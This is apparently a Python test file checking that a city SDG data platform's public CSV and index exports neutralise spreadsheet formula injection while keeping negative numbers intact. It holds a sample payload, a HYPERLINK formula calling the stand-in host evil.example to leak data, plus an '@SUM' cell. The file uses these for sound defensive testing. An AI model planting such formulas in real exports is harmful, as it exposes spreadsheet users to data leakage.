"""Formula injection in public CSVs (issue 11): the public SDG data.csv and the SDG index export protect text
that a spreadsheet would run, and keep numbers (negative ones too) as they are."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path
from typing import Any

from citydip.core.tenancy import Visibility
from support.factories import PASSWORD, make_user, make_workspace
from support.sdg_helpers import CITY, do_import

FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'


def test_public_data_csv_protects_formula_text(client: Any, sys_session: Any, tmp_path: Path) -> None:
    repo = tmp_path / "city"
    shutil.copytree(CITY, repo)
    data = repo / "data" / "indicator_1-2-1.csv"
    rows = list(csv.reader(io.StringIO(data.read_text(encoding="utf-8"))))
    header = rows[0]
    sex = header.index("Sex")
    value = header.index("Value")
    extra = ["2019"] + [""] * (len(header) - 1)
    extra[sex], extra[value] = FORMULA, "-3.5"
    units = header.index("Units")
    extra[units] = rows[1][units]
    with data.open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerow(extra)
    with sys_session() as s:
        ws = make_workspace(s, "formula", owner=make_user(s, "owner@formula.org"))
    with sys_session() as s:
        do_import(s, ws, repo, visibility=Visibility.public)

    r = client.get("/public/formula/sdg/indicators/1-2-1/data.csv")
    assert r.status_code == 200
    got = list(csv.reader(io.StringIO(r.text)))
    row = next(line for line in got if line[sex] not in ("", "Sex") and "HYPERLINK" in line[sex])
    assert row[sex] == "'" + FORMULA  # text a spreadsheet would run is protected
    assert row[value] == "-3.5"  # a negative number keeps its sign
    assert not any(cell.startswith("=") for line in got for cell in line)


def test_index_export_protects_formula_text(make_client: Any, sys_session: Any) -> None:
    with sys_session() as s:
        make_workspace(s, "la", owner=make_user(s, "ana@la.org"))
    ana = make_client().login("ana@la.org", PASSWORD)
    body = {
        "title": "Formula cities",
        "values_csv": f'city,indicator,value\n"{FORMULA.replace(chr(34), chr(34) * 2)}",poverty,10\n'
        "Other City,poverty,30\n@SUM(A1),poverty,20\n",
        "spec_csv": "indicator,goal,direction,best,worst,green,red\npoverty,1,lower,0,40,5,20\n",
    }
    created = ana.api("POST", "/api/v1/workspaces/la/index-runs", json=body)
    assert created.status_code == 201, created.text
    r = ana.get(f"/w/la/index/{created.json()['id']}/export.csv")
    assert r.status_code == 200
    cities = [line[0] for line in csv.reader(io.StringIO(r.text))][1:]
    assert sorted(cities) == sorted(["'" + FORMULA, "Other City", "'@SUM(A1)"])
